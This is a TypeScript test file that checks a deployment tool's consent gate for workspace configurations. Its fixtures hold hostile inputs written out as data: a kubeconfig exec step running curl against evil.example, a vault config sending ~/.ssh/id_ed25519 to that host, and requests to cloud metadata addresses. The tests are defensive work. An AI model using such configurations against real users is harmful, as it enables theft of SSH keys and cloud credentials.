import {chmod, mkdir, rename, symlink, writeFile} from 'node:fs/promises';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import {chooseBackend} from '../../../../src/app/backend/choose-backend.ts';
import {resolveBackend} from '../../../../src/app/backend/resolve-backend.ts';
import {allowWorkspace} from '../../../../src/app/trust/allow-workspace.ts';
import {allowedDigests} from '../../../../src/app/trust/allowed-digests.ts';
import {requireConsent} from '../../../../src/app/trust/require-consent.ts';
import {wantsOfWorkspace} from '../../../../src/app/trust/wants-of.ts';
import {wantsOfBackend} from '../../../../src/app/trust/wants-of-backend.ts';
import {type CheckedWorkspaces, checkWorkspaces} from '../../../../src/app/workspace/check-workspaces.ts';
import {examineContext} from '../../../../src/app/workspace/examine-context.ts';
import {findWorkspace} from '../../../../src/app/workspace/find-workspace.ts';
import {readConsents} from '../../../../src/config/consents.ts';
import {digestOfWants} from '../../../../src/core/trust/want.ts';
import {wantedText} from '../../../../src/ui/text/workspace/allow-text.ts';
import {checkText} from '../../../../src/ui/text/workspace/workspace-check-text.ts';
import {plainStyle} from '../../ui/plain-style.ts';
import {failureOf, rig} from '../workspace/rig.ts';

const PROD = 'project/workspaces/prod.yaml';
const STORE = 'secretStore: {provider: {exec: {command: [sh, ./get.sh]}}}\ntrust: {programs: [sh]}\n';

/** A home and a project, with the real list of what was allowed. */
async function world(files: Readonly<Record<string, string>>, more: Parameters<typeof rig>[0] = {files: {}}) {
  const made = await rig({...more, files: {'project/project.yaml': 'name: shop\n', ...files}});
  const env = {...made.deps.env, ...more.env};
  const deps = {...made.deps, env, allowedDigests: async () => allowedDigests({...made.deps, env})};
  const find = async (name = 'prod') =>
    findWorkspace({
      wanted: name,
      base: deps.cwd,
      backend: await deps.backend(),
      directory: made.path('project/workspaces'),
    });
  const used = async (name?: string) => requireConsent(await find(name), deps);
  const allow = (yes = true, branches?: readonly string[]) =>
    allowWorkspace({workspace: 'prod', confirm: async () => yes, ...(branches === undefined ? {} : {branches})}, deps);
  return {...made, deps, find, used, allow};
}

const refused = async (work: Promise<unknown>) => {
  const failure = await failureOf(work);
  if (failure.code !== 'workspace/not-allowed') throw new Error(failure.code);
  return failure;
};

describe('a workspace of a project', () => {
  it.each([
    {name: 'names no cluster', text: 'labels: {tier: prod}\n'},
    {name: 'is of the sandbox', text: 'context: {cluster: sandbox}\n'},
    {name: 'leads to a kubeconfig of the user', text: 'context: {kubeconfig_path: ~/.kube/prod, kube_context: prod}\n'},
    {name: 'gives plain keys of a provider', text: 'context: {AWS_REGION: eu-west-1}\nenv: {TF_VAR_size: "3"}\n'},
    {name: 'has a provider with its own keys', text: 'providers: {aws: {us: {region: us-east-1, secret_key: own}}}\n'},
    {name: 'gives variables of its project', text: 'env: {PROJECT_MODE: fast}\n'},
    {name: 'reads secrets in files of its project', text: 'secretStore: {provider: {file: {path: ../secrets}}}\n'},
  ])('a workspace that $name is used without consent', async ({text}) => {
    const {used, allow} = await world({[PROD]: text});
    await expect(used()).resolves.toBeUndefined();
    expect((await allow()).parts).toEqual([]);
  });

  const kubeconfig = (user: string) =>
    `apiVersion: v1\\nkind: Config\\ncurrent-context: c\\nclusters: [{name: c, cluster: {server: 'https://evil.example'}}]\\n` +
    `users: [{name: u, user: {${user}}}]\\ncontexts: [{name: c, context: {cluster: c, user: u}}]\\n`;

  it.each([
    {name: 'a program of a store', text: STORE, wants: /runs sh \.\/get\.sh/},
    {
      name: 'a program of the kubeconfig that it holds',
      text: `context: {kubeconfig_content: "${kubeconfig('exec: {apiVersion: client.authentication.k8s.io/v1, command: curl, args: [evil.example], interactiveMode: Never}')}"}\n`,
      wants: /it would run the program curl evil\.example/,
    },
    {
      name: 'a file outside of the project',
      text: 'secretStore: {provider: {file: {path: ~/.ssh}}}\n',
      wants: /reads ~\/\.ssh/,
    },
    {
      name: 'a file that is sent to a server',
      text: 'secretStore: {provider: {vault: {server: "https://evil.example", auth: {jwt: {role: r, tokenFile: ~/.ssh/id_ed25519}}}}}\n',
      wants: /sends to https:\/\/evil\.example the file ~\/\.ssh\/id_ed25519/,
    },
    {name: 'the environment', text: 'secretStore: {provider: {env: {}}}\n', wants: /any variable of the environment/},
    {
      name: 'a server that gets the login for charts',
      text: 'charts: {credentials: {"https://evil.example/charts": {username: u, password: "ref://token"}}}\n',
      wants: /fetches charts from https:\/\/evil\.example\/charts, with ref:\/\/token/,
    },
    {
      name: 'a token server that gets the login for charts',
      text: 'charts: {credentials: {"oci://a.example": {password: "ref://token", tokenServer: "https://evil.example"}}}\n',
      wants: /fetches charts from oci:\/\/a\.example and https:\/\/evil\.example, with ref:\/\/token/,
    },
    {
      name: 'an authority that may stand for a server',
      text: 'charts: {credentials: {"https://charts.example": {caFile: ../evil.pem}}}\n',
      wants: /fetches charts from https:\/\/charts\.example, trusting \.\.\/evil\.pem/,
    },
    {
      name: 'a server that gets a token',
      text: 'secretStore: {provider: {vault: {server: "https://evil.example"}}}\n',
      wants: /sends requests to https:\/\/evil\.example, with VAULT_TOKEN/,
    },
    {
      name: 'keys of Google that name a file and a server',
      text: 'context: {GOOGLE_CREDENTIALS: \'{"type": "external_account"}\'}\n',
      wants: /sets GOOGLE_CREDENTIALS/,
    },
    {
      name: 'a configuration of AWS',
      text: 'env: {AWS_CONFIG_FILE: ./aws}\n',
      wants: /sets AWS_CONFIG_FILE to \.\/aws for/,
    },
    {name: 'a secret in plain text', text: 'env: {MY_PASSWORD: hunter2}\n', wants: /^sets MY_PASSWORD for/},
    {
      name: 'an address with a login',
      text: 'env: {MIRROR: "https://me:hunter2@x.example/"}\n',
      wants: /^sets MIRROR for/,
    },
    {name: 'a reference', text: 'env: {MY_KEY: "ref://key"}\n', wants: /^sets MY_KEY for .* \(ref:\/\/key\)$/},
    {
      name: 'a secret for a provider that names servers',
      text: 'providers: {aws: {us: {secret_key: "ref://key", endpoints: [{sts: "https://evil.example"}]}}}\n',
      wants: /^the provider aws\.us gets ref:\/\/key, with the servers https:\/\/evil\.example$/,
    },
    {
      name: 'a provider with a profile of the user',
      text: 'providers: {aws: {us: {profile: admin, sts_endpoint: "https://evil.example"}}}\n',
      wants: /^the provider aws\.us uses the profile admin of this machine, with the servers https:\/\/evil\.example$/,
    },
    {
      name: 'a provider with a file of the user',
      text: 'providers: {aws: {us: {shared_config_files: [~/.aws/config]}}}\n',
      wants: /^the provider aws\.us reads ~\/\.aws\/config$/,
    },
    {
      name: 'a login that its cluster is shown',
      text: 'identity: {oidc: {issuer: "https://login.example", clientId: k8s}}\n',
      wants: /logs in at https:\/\/login\.example/,
    },
    {
      name: 'a kubeconfig that is fetched',
      text: 'context: {kubeconfig_path: "https://evil.example/k"}\n',
      wants: /fetches its kubeconfig from https:\/\/evil\.example\/k/,
    },
    {name: 'to trust programs', text: 'trust: {programs: [git]}\n', wants: /lets a fetched kubeconfig run git/},
    {
      name: 'to run the module of a package',
      text: 'trust: {modules: [cache, own]}\nmodules: {cache: {npm: "@acme/cache", version: ^1}, own: {path: ../m}}\n',
      wants: /^runs the module cache of the npm package @acme\/cache \^1$/,
    },
    {
      name: 'to run the module of a repository',
      text: 'trust: {modules: [cache]}\nmodules: {cache: {git: {url: "https://git.example/m", ref: v1, path: cache}}}\n',
      wants: /^runs the module cache of the git repository https:\/\/git\.example\/m\/cache at v1$/,
    },
  ])('a workspace that wants $name is refused, and the error says how to allow it', async ({text, wants}) => {
    const {used, allow} = await world({[PROD]: text});
    const failure = await refused(used());
    expect(failure.wants.join('\n')).toMatch(wants);
    expect(failure.wants.join('\n')).not.toContain('hunter2');
    expect(failure.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect((await allow(false)).parts).toMatchObject([{outcome: 'declined'}]);
    await refused(used());
    expect((await allow()).parts).toMatchObject([{outcome: 'allowed', digest: failure.digest}]);
    await expect(used()).resolves.toBeUndefined();
    expect((await allow()).parts).toMatchObject([{outcome: 'already-allowed'}]);
  });

  it.each([
    {
      name: 'the path of its kubeconfig',
      text: 'context: {kubeconfig_path: "../$SHOP_TOKEN"}\n',
      wants: /uses the environment variable SHOP_TOKEN/,
    },
    {
      name: 'the path of a store',
      text: 'secretStore: {provider: {file: {path: "../${SHOP_TOKEN}"}}}\n',
      wants: /reads/,
    },
  ])('a workspace that puts a variable into $name, which messages show, is refused', async ({text, wants}) => {
    const {used} = await world({[PROD]: text}, {files: {}, env: {SHOP_TOKEN: 'of-the-user'}});
    const failure = await refused(used());
    expect(failure.wants.join('\n')).toMatch(wants);
    expect(JSON.stringify(failure)).not.toContain('of-the-user');
  });

  it('a workspace cannot extend a file outside of its project, whose lines messages would show', async () => {
    const {used} = await world({
      [PROD]: 'extends: ../../home/.netrc.yaml\n',
      'home/.netrc.yaml': 'password: of-the-user\n',
    });
    const failure = await failureOf(used());
    expect(failure).toMatchObject({code: 'input/invalid', diagnostics: [{code: 'workspace/extends'}]});
    expect(JSON.stringify(failure)).not.toContain('of-the-user');
  });

  it('a workspace can extend a file of its repository, outside of its project', async () => {
    const {deps, path} = await world({
      'project/apps/shop/project.yaml': 'name: shop\n',
      'project/apps/shop/prod.yaml': 'extends: ../../platform/base.yaml\n',
      'project/platform/base.yaml': STORE,
    });
    const wanted = path('project/apps/shop/prod.yaml');
    const found = await findWorkspace({wanted, base: deps.cwd, backend: await deps.backend()});
    const {wants} = await refused(requireConsent(found, deps));
    expect(wants).toEqual(expect.arrayContaining([expect.stringContaining('get.sh')]));
  });

  it.each([
    {name: 'a link that leads out of the project', link: '../home/.ssh/id', problem: /is a link/},
    {name: 'a device', link: '/dev/null', problem: /is not a regular file/},
  ])('a workspace opens no kubeconfig that is $name', async ({link, problem}) => {
    const {find, deps, path} = await world({
      [PROD]: 'context: {kubeconfig_path: ../kubeconfig}\n',
      'home/.ssh/id': 'key',
    });
    await symlink(link, path('project/kubeconfig'));
    const {kubeconfig} = await examineContext({chosen: await find(), resources: []}, deps);
    expect(kubeconfig).toMatchObject({broken: {code: 'context/kubeconfig', problem: expect.stringMatching(problem)}});
  });

  it.each([
    {
      name: 'a wrong field',
      cluster: '',
      user: 'client-certificate: /etc/hostname, client-key: 7',
      code: 'context/kubeconfig',
    },
    {
      name: 'a proxy at a metadata address',
      cluster: ', proxy-url: "http://169.254.169.254"',
      user: '',
      code: 'workspace/not-allowed',
    },
  ])('a workspace uses nothing of a kubeconfig of the project that has $name', async ({cluster, user, code}) => {
    const held =
      `clusters: [{name: c, cluster: {server: "https://a.example"${cluster}}}]\nusers: [{name: u, user: {${user}}}]\n` +
      'contexts: [{name: c, context: {cluster: c, user: u}}]\ncurrent-context: c\n';
    const {used} = await world({[PROD]: 'context: {kubeconfig_path: ../kubeconfig}\n', 'project/kubeconfig': held});
    expect(await failureOf(used())).toMatchObject({code});
  });

  it('a workspace stays a workspace of a project if $GANTRY_HOME is a directory above the project', async () => {
    const made = await world({[PROD]: STORE});
    const deps = {...made.deps, home: made.path('.')};
    expect(await wantsOfWorkspace(await made.find(), deps)).toMatchObject({origin: 'project'});
  });

  it('a changed workspace needs a new consent, with the added and removed requests', async () => {
    const {used, allow, path} = await world({[PROD]: STORE});
    await allow();
    await writeFile(path(PROD), STORE.replace('./get.sh', './other.sh'));
    expect(await refused(used())).toMatchObject({
      changed: {added: [expect.stringContaining('./other.sh')], removed: [expect.stringContaining('./get.sh')]},
    });
  });

  it('a workspace needs a new consent when a script of the project that it runs changes', async () => {
    const {used, allow, path} = await world({[PROD]: STORE, 'project/workspaces/get.sh': 'echo 1\n'});
    await allow();
    await expect(used()).resolves.toBeUndefined();
    await writeFile(path('project/workspaces/get.sh'), 'curl evil.example\n');
    await refused(used());
  });

  it('a workspace sends secrets only to the server that was allowed', async () => {
    const text = (server: string) =>
      `context: {kubeconfig_path: ../kubeconfig}\nsecretStore: {provider: {env: {prefix: SHOP_}}}\n# ${server}\n`;
    const held = (server: string) =>
      `clusters: [{name: c, cluster: {server: "https://${server}"}}]\nusers: [{name: u, user: {}}]\n` +
      'contexts: [{name: c, context: {cluster: c, user: u}}]\ncurrent-context: c\n';
    const {used, allow, path} = await world({[PROD]: text('a'), 'project/kubeconfig': held('good.example')});
    await allow();
    await expect(used()).resolves.toBeUndefined();
    await writeFile(path('project/kubeconfig'), held('evil.example'));
    expect((await refused(used())).changed?.added.join()).toContain('https://evil.example');
  });

  it('a workspace needs a new consent when the CA of a server changes', async () => {
    const store = 'secretStore: {provider: {vault: {server: "https://vault.example", caFile: ../ca.pem}}}\n';
    const {used, allow, path} = await world({[PROD]: store, 'project/ca.pem': 'one'});
    await allow();
    await expect(used()).resolves.toBeUndefined();
    await writeFile(path('project/ca.pem'), 'another');
    await refused(used());
  });

  it('a workspace is allowed by its digest in GANTRY_ALLOW, or in a file that it names', async () => {
    const {deps, find, used} = await world({[PROD]: STORE});
    const {digest = ''} = await refused(used());
    expect(digest).toBe(digestOfWants(await wantsOfWorkspace(await find(), deps)));
    for (const said of [digest, `sha256:${'0'.repeat(64)}, ${digest}`, '../allowed']) {
      const other = await world(
        {[PROD]: STORE, allowed: `# prod\n${digest}  # of the store\n`},
        {files: {}, env: {GANTRY_ALLOW: said}},
      );
      await expect(other.used()).resolves.toBeUndefined();
    }
    const wrong = await world({[PROD]: STORE}, {files: {}, env: {GANTRY_ALLOW: 'sha256:12'}});
    expect(await failureOf(wrong.used())).toMatchObject({code: 'input/usage'});
  });

  it.each([
    {where: 'the project', file: 'project/ci/allowed', said: './ci/allowed'},
    {where: 'its repository', file: 'allowed', said: '../allowed'},
    {where: 'a submodule of its repository', file: 'sub/allowed', said: '../sub/allowed'},
    {where: 'the project, by a link from elsewhere', file: 'project/allowed', said: '../elsewhere/link'},
  ])('a workspace is not allowed by a file of $where, which the same change could edit', async ({file, said}) => {
    const {digest = ''} = await refused((await world({[PROD]: STORE})).used());
    const {used, path} = await world(
      {[PROD]: STORE, [file]: digest, 'elsewhere/x': '', 'sub/.git': 'gitdir: ../.git/modules/sub\n'},
      {files: {}, env: {GANTRY_ALLOW: said}},
    );
    if (!file.startsWith('project/')) await rename(path('project/.git'), path('.git'));
    await symlink(path(file), path('elsewhere/link'));
    expect(await failureOf(used())).toMatchObject({code: 'input/usage', message: expect.stringContaining(said)});
  });

  it('a workspace is allowed on a branch of its repository only, with any content', async () => {
    const {used, allow, path} = await world({[PROD]: STORE});
    const git = async (branch: string, url = 'https://git.example/acme/shop.git') => {
      await writeFile(path('project/.git/HEAD'), `ref: refs/heads/${branch}\n`);
      await writeFile(path('project/.git/config'), `[remote "origin"]\n\turl = ${url}\n`);
    };
    expect(await failureOf(allow(true, ['main']))).toMatchObject({code: 'input/usage'});
    await git('main');
    await allow(true, ['main']);
    await writeFile(path(PROD), STORE.replace('./get.sh', './other.sh'));
    await expect(used()).resolves.toBeUndefined();
    await git('of-a-stranger');
    await refused(used());
    await git('main', 'https://git.example/stranger/shop.git');
    await refused(used());
  });

  it('the requests of a base count for the workspace that extends it', async () => {
    const {used} = await world({[PROD]: 'extends: base\n', 'project/workspaces/base.yaml': STORE});
    expect((await refused(used())).workspace).toBe('prod');
  });
});

describe('the variables of a project', () => {
  const config = '[remote "origin"]\n\turl = https://git.example/acme/web-shop.git\n';
  const clone = {'project/.git/HEAD': 'ref: refs/heads/main\n', 'project/.git/config': config};
  const named = {'project/project.yaml': 'name: pip\n'};

  it.each([
    {name: 'its repository, in a clone of another name', files: clone, variable: 'WEB_SHOP_MODE', isFree: true},
    {name: 'the directory of the clone', files: clone, variable: 'PROJECT_MODE', isFree: false},
    {name: 'the directory of a repository without a remote', files: {}, variable: 'PROJECT_MODE', isFree: true},
    {name: 'what project.yaml says', files: {...clone, ...named}, variable: 'PIP_INDEX_URL', isFree: false},
    {name: 'what project.yaml says without a remote', files: named, variable: 'PIP_INDEX_URL', isFree: false},
  ])(
    'variables that begin with the name of $name belong to the project: $isFree',
    async ({files, variable, isFree}) => {
      const {used} = await world({...files, [PROD]: `env: {${variable}: x}\n`});
      await (isFree ? expect(used()).resolves.toBeUndefined() : refused(used()));
    },
  );

  const at = async (directory: string, variable: string, more: Readonly<Record<string, string>>) => {
    const file = `${directory}/workspaces/prod.yaml`;
    const project = {[`${directory}/project.yaml`]: '', [file]: `env: {${variable}: x}\n`};
    const {deps, path} = await world({...clone, ...project, ...more});
    const find = {wanted: path(file), base: deps.cwd, backend: await deps.backend()};
    return requireConsent(await findWorkspace(find), deps);
  };

  it('variables of a directory of a repository begin with the name of the directory', async () => {
    await expect(at('project/shop', 'SHOP_MODE', {})).resolves.toBeUndefined();
  });

  it('variables in a worktree begin with the name of the repository', async () => {
    const tree = {
      'tree/.git': 'gitdir: ../project/.git/worktrees/tree\n',
      'project/.git/worktrees/tree/commondir': '../..\n',
    };
    await expect(at('tree', 'WEB_SHOP_MODE', tree)).resolves.toBeUndefined();
    await refused(at('tree', 'TREE_MODE', tree));
  });
});

it('a check shows the requests of a workspace, and which of them are allowed', async () => {
  const {deps, allow, path} = await world({[PROD]: STORE});
  const check = () => checkWorkspaces({workspace: 'prod', all: false, timeoutSeconds: 5}, deps);
  const text = (found: CheckedWorkspaces): string => checkText(found, plainStyle);
  const lines = /^ {2}- .*$/gm;
  const before = await check();
  const [first] = before.workspaces;
  expect(first?.wanted).toMatchObject({origin: 'project', verdict: 'not-allowed', digest: expect.any(String)});
  expect(text(before)).toContain('requests access that you have not allowed');
  expect(text(before).match(lines)).toEqual([
    '  - the secret store runs sh ./get.sh',
    '  - lets a fetched kubeconfig run sh',
  ]);
  await allow();
  const allowed = await check();
  expect(allowed.workspaces).toMatchObject([{wanted: {verdict: 'allowed', digest: first?.wanted?.digest}}]);
  expect(text(allowed)).toContain('is allowed this access');
  await writeFile(path(PROD), STORE.replace('./get.sh', './other.sh'));
  expect(text(await check()).match(lines)).toEqual([
    '  - the secret store runs sh ./other.sh (new)',
    '  - lets a fetched kubeconfig run sh (you allowed it before)',
  ]);
});

describe('the printed requests for a pipeline', () => {
  const nobody = async (): Promise<boolean> => {
    throw new Error('somebody was asked');
  };

  it('the output has the digest of the refusal, without a prompt and without a consent', async () => {
    const {deps, used} = await world({[PROD]: STORE});
    const {digest = ''} = await refused(used());
    const printed = await allowWorkspace({name: 'prod', print: true, confirm: nobody}, deps);
    expect(printed).toMatchObject({name: 'prod', parts: [{digest, outcome: 'not-asked'}]});
    expect(wantedText(printed, plainStyle).split('\n')).toEqual([
      expect.stringMatching(/^# prod \(.*prod\.yaml\), sha256:[0-9a-f]{64}:$/),
      '#   - the secret store runs sh ./get.sh',
      '#   - lets a fetched kubeconfig run sh',
      `GANTRY_ALLOW=${digest}`,
      '',
    ]);
    await refused((await world({[PROD]: STORE})).used());
    expect(await readConsents(deps.home)).toEqual([]);
  });

  it('the output for all workspaces and the backend has one line for each', async () => {
    const files = {
      'project/project.yaml': 'name: shop\nbackend: s3://state/shop?endpoint=https://s3.example&region=eu-west-1\n',
      [PROD]: STORE,
      'project/workspaces/stage.yaml': STORE,
      'project/workspaces/plain.yaml': 'context: {cluster: sandbox}\n',
    };
    const {deps} = await world(files);
    const printed = await allowWorkspace({all: true, print: true, confirm: nobody}, deps);
    expect(printed.parts.map(({workspace}) => workspace)).toEqual(['the backend of the project', 'prod', 'stage']);
    const [line = ''] = /(?<=^GANTRY_ALLOW=).+/m.exec(wantedText(printed, plainStyle)) ?? [];
    const other = await world(files, {files: {}, env: {GANTRY_ALLOW: line}});
    for (const name of ['prod', 'stage', 'plain']) await expect(other.used(name)).resolves.toBeUndefined();
  });
});

describe('the backend of a project', () => {
  it.each([
    {name: 'a directory', backend: 'local:state', wants: []},
    {name: 'Secrets of a cluster', backend: 'kubernetes://state', wants: []},
    {name: 'a bucket at Amazon', backend: 's3://state/shop', wants: []},
    {name: 'a bucket at Google', backend: 'gs://state/shop', wants: []},
    {name: 'a container at Azure', backend: 'azblob://state/shop?storage_account=team', wants: []},
    {
      name: 'a server like Azure',
      backend: 'azblob://state/shop?storage_account=team&endpoint=https://blob.example',
      wants: ['keeps releases in state at https://blob.example, with your Azure credentials'],
    },
    {
      name: 'a server like Amazon',
      backend: 's3://state/shop?endpoint=https://s3.example',
      wants: ['keeps releases in state at https://s3.example, with your AWS credentials'],
    },
    {
      name: 'a server like Google, with certificates',
      backend: 'gs://state/shop?endpoint=https://gs.example&caFile=~/ca.pem',
      wants: ['keeps releases in state at https://gs.example, trusting ~/ca.pem, with your Google credentials'],
    },
    {
      name: 'certificates of the user',
      backend: 'gs://state/shop?caFile=~/ca.pem',
      wants: ['reads the certificates in ~/ca.pem'],
    },
    {
      name: 'a key',
      backend: '{gcs: {bucket: state, credentials: {key: ref://KEY}}}',
      wants: ['logs in to it with ref://KEY', 'the secret store of the backend reads any variable of the environment'],
    },
  ])('a backend of $name requests what its descriptor declares', async ({backend, wants}) => {
    const {deps} = await world({'project/project.yaml': `name: shop\nbackend: ${backend}\n`});
    const chosen = await chooseBackend({}, deps);
    expect(wantsOfBackend(chosen, deps).wants.map(({text}) => text)).toEqual(wants);
  });

  it('a backend that gives credentials to machines is reported as such', async () => {
    const backend = 'gs://state?endpoint=https://metadata.google.internal';
    const {deps} = await world({'project/project.yaml': `name: shop\nbackend: ${backend}\n`});
    const chosen = await chooseBackend({}, deps);
    expect(await refused(resolveBackend(chosen, {}, deps))).toMatchObject({
      wants: expect.arrayContaining(['asks https://metadata.google.internal']),
    });
  });
});

describe('all workspaces of a project', () => {
  const files = {[PROD]: STORE, 'project/workspaces/stage.yaml': STORE.replace('get', 'other')};

  it.each([true, false])('all workspaces are confirmed by one answer: %s', async (yes) => {
    const {deps, used} = await world(files);
    const asked: (readonly string[])[] = [];
    const confirm = async (questions: readonly {readonly workspace: string}[]): Promise<boolean> => {
      asked.push(questions.map(({workspace}) => workspace));
      return yes;
    };
    const outcome = yes ? 'allowed' : 'declined';
    expect((await allowWorkspace({all: true, confirm}, deps)).parts).toMatchObject([{outcome}, {outcome}]);
    expect(asked).toEqual([['prod', 'stage']]);
    for (const name of ['prod', 'stage'])
      await (yes ? expect(used(name)).resolves.toBeUndefined() : refused(used(name)));
  });

  it('only workspaces that are not allowed yet are confirmed', async () => {
    const {deps} = await world(files);
    await allowWorkspace({name: 'prod', confirm: async () => true}, deps);
    const confirm = async (questions: readonly {readonly workspace: string}[]): Promise<boolean> =>
      questions.length === 1 && questions[0]?.workspace === 'stage';
    const {parts} = await allowWorkspace({all: true, confirm}, deps);
    expect(parts.map(({outcome}) => outcome)).toEqual(['already-allowed', 'allowed']);
  });

  it('--all outside of a project is an error', async () => {
    const {deps, path} = await world({'elsewhere/x': ''});
    const outside = {...deps, cwd: path('elsewhere')};
    expect(await failureOf(allowWorkspace({all: true, confirm: async () => true}, outside))).toMatchObject({
      code: 'input/usage',
    });
  });
});

describe('a workspace of the user’s own', () => {
  it.each(['home/own/prod.yaml', 'home/.gantry/prod.yaml', 'home/.kube/prod.yaml'])(
    'a workspace in %s needs no consent',
    async (file) => {
      const {path, deps} = await world({[file]: STORE});
      const found = await findWorkspace({wanted: path(file), base: deps.cwd, backend: await deps.backend()});
      await expect(requireConsent(found, deps)).resolves.toBeUndefined();
    },
  );

  it('a workspace that is a file of a project belongs to the project, also through a link', async () => {
    const {path, deps} = await world({[PROD]: STORE});
    const found = await findWorkspace({wanted: path(PROD), base: deps.cwd, backend: await deps.backend()});
    await refused(requireConsent(found, deps));
  });

  it('a workspace that stack.yaml names belongs to the project, wherever it is', async () => {
    const {path, deps} = await world({'elsewhere/prod.yaml': STORE});
    const find = {wanted: path('elsewhere/prod.yaml'), base: deps.cwd, backend: await deps.backend()};
    await expect(requireConsent(await findWorkspace({...find, from: '-w'}), deps)).resolves.toBeUndefined();
    await refused(requireConsent(await findWorkspace({...find, from: 'stack.yaml'}), deps));
  });
});

describe('a workspace in a backend', () => {
  const stored = {prod: STORE};

  it('a workspace in a private backend needs no consent', async () => {
    const {used} = await world({}, {files: {}, stored, isShared: false});
    await expect(used()).resolves.toBeUndefined();
  });

  it('a workspace in a shared backend needs consent', async () => {
    const {used, allow} = await world({}, {files: {}, stored, isShared: true});
    expect(await refused(used())).toMatchObject({origin: 'shared'});
    await allow();
    await expect(used()).resolves.toBeUndefined();
  });

  it.each(['http://169.254.169.254', 'https://metadata.google.internal', 'https://[fd00:ec2::254]'])(
    'a workspace can never request the credentials of this machine from %s',
    async (address) => {
      const store = `secretStore: {provider: {vault: {server: "${address.replace('http:', 'https:')}"}}}\n`;
      const {used, allow} = await world({}, {files: {}, stored: {prod: store}, isShared: true});
      expect(await refused(used())).toMatchObject({never: true});
      expect(await failureOf(allow())).toMatchObject({code: 'workspace/not-allowed', never: true});
    },
  );

  it.each([
    {open: '', mode: 0o700, origin: 'mine'},
    {open: '', mode: 0o770, origin: 'shared'},
    {open: '', mode: 0o707, origin: 'shared'},
    {open: 'workspaces', mode: 0o770, origin: 'shared'},
    {open: 'workspaces/prod.yaml', mode: 0o660, origin: 'shared'},
  ])('a workspace in a directory where "$open" has mode $mode is $origin', async ({open, mode, origin}) => {
    const made = await world({}, {files: {}, stored, isShared: false});
    const directory = made.path('srv/state');
    await mkdir(join(directory, 'workspaces'), {recursive: true, mode: 0o700});
    await writeFile(join(directory, 'workspaces/prod.yaml'), STORE, {mode: 0o600});
    await chmod(directory, 0o700);
    await chmod(join(directory, open), mode);
    const backend = {...(await made.deps.backend()), directory};
    const deps = {...made.deps, backend: async () => backend};
    expect(await wantsOfWorkspace(await made.find(), deps)).toMatchObject({origin});
  });
});
